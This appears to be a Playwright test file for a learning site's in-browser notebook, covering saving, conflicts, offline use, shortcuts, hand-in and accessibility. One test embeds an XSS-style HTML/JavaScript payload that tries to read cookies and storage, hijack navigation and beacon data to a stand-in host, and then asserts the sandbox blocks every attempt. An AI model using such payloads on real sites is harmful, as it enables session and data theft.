@@ -1,0 +1,327 @@
+"""The notebook in a true browser, its relay told what to say."""
+
+import json
+import re
+import threading
+
+import pytest
+from axe_playwright_python.sync_playwright import Axe
+from playwright.sync_api import expect
+from werkzeug.serving import make_server
+
+from lms.learning import drafts
+
+SAVED = re.compile(r"saved \d\d:\d\d")
+PASSWORD = "a sentence to remember"
+RULES = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"]
+
+pytestmark = pytest.mark.browser
+
+
+def stream(text):
+    return {"output_type": "stream", "name": "stdout", "text": text}
+
+
+def drawn(mime, data):
+    return {"output_type": "display_data", "metadata": {}, "data": {mime: data, "text/plain": "-"}}
+
+
+class ToldRelay:
+    """Answers the frames of a page as the test says: outputs by code, "ok" for other code."""
+
+    def __init__(self):
+        self.outputs, self.frames, self.sockets = {}, [], []
+        self.count = 0
+
+    def meet(self, socket):
+        self.sockets.append(socket)
+        socket.on_message(lambda text: self._hear(socket, json.loads(text)))
+
+    def say(self, **frame):
+        self.sockets[-1].send(json.dumps(frame))
+
+    def _hear(self, socket, frame):
+        self.frames.append(frame)
+        if frame["type"] == "hello":
+            self.say(type="kernel", state="starting")
+            self.say(type="kernel", state="idle")
+        if frame["type"] == "execute":
+            self.count += 1
+            outputs = self.outputs.get(frame["code"], ())
+            for output in outputs:
+                self.say(type="output", id=frame["id"], output=output, display_id=None)
+            wrong = any(output["output_type"] == "error" for output in outputs)
+            status = "error" if wrong else "ok"
+            self.say(type="done", id=frame["id"], status=status, count=self.count)
+        if frame["type"] == "complete":
+            matches = ["doubled", "double"]
+            self.say(type="completion", id=frame["id"], matches=matches, start=0, end=3)
+
+
+@pytest.fixture
+def arrived():
+    """What the site was asked for, by whomever."""
+    return []
+
+
+@pytest.fixture
+def served(site, arrived):
+    """The site on a port of its own."""
+
+    def noted(environ, start_response):
+        arrived.append(f"{environ['PATH_INFO']}?{environ['QUERY_STRING']}")
+        return site(environ, start_response)
+
+    server = make_server("127.0.0.1", 0, noted, threaded=True)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_port}"
+    server.shutdown()
+
+
+@pytest.fixture
+def relay():
+    return ToldRelay()
+
+
+@pytest.fixture
+def address(served, session, place):
+    session.commit()
+    return f"{served}/learn/{place.public_id}/assignments/double/notebook"
+
+
+@pytest.fixture
+def context(served, chromium):
+    with chromium.new_context() as context:
+        page = context.new_page()
+        page.goto(f"{served}/account/sign-in")
+        page.fill("#email", "salma@fez.example")
+        page.fill("#password", PASSWORD)
+        page.click("main form button[type=submit]")
+        page.close()
+        yield context
+
+
+@pytest.fixture
+def open_page(context, relay, address):
+    def opened():
+        page = context.new_page()
+        page.route_web_socket("**/kernels", relay.meet)
+        page.goto(address)
+        expect(page.locator("#nb-kernel")).to_have_text("Python is ready")
+        return page
+
+    return opened
+
+
+def stored(session, place, find):
+    session.expire_all()
+    session.rollback()
+    version = drafts.newest(session, place, find(place, "double"))
+    return json.loads(drafts.content_of(version)) if version else None
+
+
+def test_a_cell_is_written_run_and_saved(open_page, relay, session, place, find):
+    page = open_page()
+    relay.outputs["def double(n): return 2 * n"] = [stream("well \x1b[31mred\x1b[0m\n")]
+
+    editor = page.locator(".cm-content").first
+    editor.click()
+    page.keyboard.press("Control+a")
+    page.keyboard.type("def double(n): return 2 * n")
+    page.keyboard.press("Control+Enter")
+
+    expect(page.locator(".nb-outputs .ansi-1")).to_have_text("red")
+    expect(page.locator("#nb-saved")).to_have_text(SAVED)
+    sources = ["".join(cell["source"]) for cell in stored(session, place, find)["cells"]]
+    assert "def double(n): return 2 * n" in sources
+
+
+ATTACK = """
+<img src="{site}/static/icons/favicon.svg?stolen-image" onerror="0">
+<link rel="stylesheet" href="{site}/static/css/site.css?stolen-style">
+<form id="f" action="{site}/learn/stolen-form" method="post" target="_top"><input name="a"></form>
+<iframe src="{site}/home?stolen-frame"></iframe>
+<script>
+const said = {{}};
+const attempt = (name, deed) => {{
+  try {{ said[name] = String(deed()); }} catch (error) {{ said[name] = 'refused'; }}
+}};
+attempt('parent', () => parent.document.title);
+attempt('top', () => (top.location = '{site}/home?stolen-top'));
+attempt('cookie', () => document.cookie);
+attempt('storage', () => localStorage.length);
+attempt('popup', () => open('{site}/home?stolen-popup'));
+attempt('form', () => document.getElementById('f').submit());
+attempt('image', () => {{ new Image().src = '{site}/home?stolen-beacon'; }});
+fetch('{site}/home?stolen-fetch', {{ credentials: 'include' }}).catch(() => {{}});
+fetch('https://elsewhere.example/stolen-fetch').catch(() => {{}});
+navigator.sendBeacon('{site}/home?stolen-send', 'x');
+attempt('socket', () => new WebSocket('ws://elsewhere.example/stolen-socket'));
+attempt('worker', () => new Worker('{site}/static/js/forms.js?stolen-worker'));
+parent.postMessage({{ height: 1e9 }}, '*');
+parent.postMessage({{ type: 'kernel', state: 'dead' }}, '*');
+document.body.append(JSON.stringify(said));
+document.body.dataset.ready = 'yes';
+setTimeout(() => {{ location = '{site}/home?stolen-self'; }}, 400);
+</script>
+"""
+
+
+def test_an_output_can_neither_act_as_the_learner_nor_reach_the_page(
+    open_page, relay, served, arrived, context
+):
+    page = open_page()
+    asked = []
+    context.on("request", lambda request: asked.append(request))
+    arrived.clear()
+    relay.outputs["attack"] = [drawn("text/html", ATTACK.format(site=served))]
+    before = page.url
+
+    page.locator(".cm-content").first.fill("attack")
+    page.keyboard.press("Control+Enter")
+
+    body = page.frame_locator(".nb-frame").locator("body[data-ready]")
+    said = json.loads(re.search(r"\{.*\}", body.inner_text())[0])
+    page.wait_for_timeout(800)
+    assert said["parent"] == said["cookie"] == said["storage"] == "refused"
+    assert said["popup"] in ("null", "refused")
+    attempts = [request for request in asked if "stolen" in request.url]
+    assert {request.failure for request in attempts} == {"csp"}
+    assert [path for path in arrived if "stolen" in path] == []
+    assert page.url == before
+    assert len(context.pages) == 1
+    assert page.locator(".nb-frame").bounding_box()["height"] <= 4000
+    assert page.locator("#nb-kernel").inner_text() == "Python is ready"
+
+
+def test_what_another_device_saved_is_shown_and_neither_text_is_lost(
+    open_page, session, place, find, address
+):
+    page = open_page()
+    other = open_page()
+    for tab, text in ((other, "theirs = 1"), (page, "mine = 1")):
+        tab.bring_to_front()
+        tab.locator(".cm-content").first.fill(text)
+        if tab is other:
+            expect(tab.locator("#nb-saved")).to_have_text(SAVED)
+
+    dialog = page.locator("#nb-conflict")
+    expect(dialog).to_contain_text("theirs = 1")
+    expect(dialog).to_contain_text("mine = 1")
+    dialog.locator("[data-choose=theirs]").click()
+
+    expect(page.locator(".cm-content").first).to_have_text("theirs = 1")
+    expect(page.locator("#nb-saved")).to_have_text(SAVED)
+    session.rollback()
+    double = find(place, "double")
+    kept = [drafts.content_of(drafts.version(session, place, double, n)) for n in (1, 2, 3)]
+    assert [b"theirs = 1" in content for content in kept] == [True, False, True]
+    assert b"mine = 1" in kept[1]
+
+
+def test_without_a_connection_text_is_kept_and_comes_back(open_page, context, session, place, find):
+    page = open_page()
+    context.set_offline(True)
+    page.locator(".cm-content").first.fill("far_from_the_net = 1")
+    expect(page.locator("#nb-saved")).to_contain_text("kept on this device", timeout=10_000)
+    page.close(run_before_unload=False)
+    context.set_offline(False)
+
+    again = open_page()
+
+    expect(again.locator(".cm-content").first).to_have_text("far_from_the_net = 1")
+    expect(again.locator("#nb-saved")).to_have_text(SAVED, timeout=10_000)
+    assert "far_from_the_net" in json.dumps(stored(session, place, find))
+
+
+def test_the_keys_of_jupyter_work_with_cells(open_page, relay):
+    page = open_page()
+    cells = page.locator("#notebook > [data-cell]")
+    page.locator(".cm-content").first.click()
+    page.keyboard.press("Escape")
+
+    page.keyboard.type("bb")
+    expect(cells).to_have_count(5)
+    page.keyboard.press("m")
+    expect(cells.nth(3)).to_have_class(re.compile("nb-markdown"))
+    page.keyboard.type("dd")
+    expect(cells).to_have_count(4)
+    page.keyboard.press("z")
+    expect(cells).to_have_count(5)
+    page.keyboard.type("kkdd")  # The answer, which has to stay.
+    expect(cells).to_have_count(5)
+    page.keyboard.press("Enter")
+    page.keyboard.press("Control+a")
+    page.keyboard.type("dou")
+    page.keyboard.press("Tab")
+    expect(page.locator(".cm-tooltip-autocomplete")).to_contain_text("doubled")
+    page.keyboard.press("Escape")
+    page.keyboard.press("Escape")
+    page.keyboard.type("ii")
+    page.keyboard.type("00")
+    page.keyboard.press("h")
+    expect(page.locator("#nb-help")).to_be_visible()
+    kinds = [frame["type"] for frame in relay.frames]
+    assert kinds[-2:] == ["interrupt", "restart"]
+    assert "complete" in kinds
+
+
+def test_a_test_that_does_not_pass_is_explained_and_work_is_handed_in(open_page, relay):
+    page = open_page()
+    trace = ["Cell In[2], line 1\n----> 1 assert double(1) == 2\n", "AssertionError: "]
+    error = {"output_type": "error", "ename": "AssertionError", "evalue": "", "traceback": trace}
+    relay.outputs["assert double(1) == 2"] = [error]
+
+    page.locator("#notebook [data-cell=tests] [data-do=run]").click()
+    said = page.locator("#notebook [data-cell=tests] .nb-says")
+    expect(said).to_contain_text('The test "assert double(1) == 2" did not pass.')
+    relay.outputs.clear()
+    page.locator("[data-do=check-all]").click()
+    expect(said).to_contain_text("Hidden ones run when you hand in.")
+
+    page.locator("#hand-in-form button").click()
+    page.wait_for_url("**/submissions/*")
+    expect(page.locator("main")).to_contain_text("Attempt 1")
+
+
+def test_a_program_asks_in_the_page(open_page, relay):
+    page = open_page()
+    page.locator(".cm-content").first.fill("x")
+    relay.say(type="input_request", id="x", prompt="Your name? ", password=False)
+
+    page.locator(".nb-input input").fill("Salma")
+    page.keyboard.press("Enter")
+
+    shown = page.locator("#notebook [data-cell=answer] .nb-outputs")
+    expect(shown).to_contain_text("Your name? Salma")
+    assert relay.frames[-1] == {"type": "input", "value": "Salma"}
+
+
+@pytest.mark.parametrize("language", ["en", "ar"])
+def test_the_page_fits_a_telephone_and_every_reader(open_page, served, language):
+    page = open_page()
+    page.set_viewport_size({"width": 320, "height": 640})
+    if language == "ar":
+        page.locator("button[name=locale][value=ar]").evaluate("button => button.click()")
+    expect(page.locator(".cm-content").first).to_be_visible()
+
+    assert page.evaluate("document.documentElement.scrollWidth") <= 320
+    small = page.locator(".nb-bar button:visible, .nb-run:visible").evaluate_all(
+        "all => all.filter(one => one.getBoundingClientRect().height < 44).length"
+    )
+    assert small == 0
+    found = Axe().run(page, options={"runOnly": {"type": "tag", "values": RULES}})
+    assert found.response["violations"] == []
+
+
+def test_without_scripts_the_notebook_can_be_read(served, chromium, context, address):
+    with chromium.new_context(
+        java_script_enabled=False, storage_state=context.storage_state()
+    ) as plain:
+        page = plain.new_page()
+        page.goto(address)
+
+        expect(page.locator("main")).to_contain_text("Double it.")
+        expect(page.locator("main")).to_contain_text("assert double(1) == 2")
+        expect(page.locator("main")).to_contain_text("which have not come")
+        assert page.locator("main button:visible").count() == 0
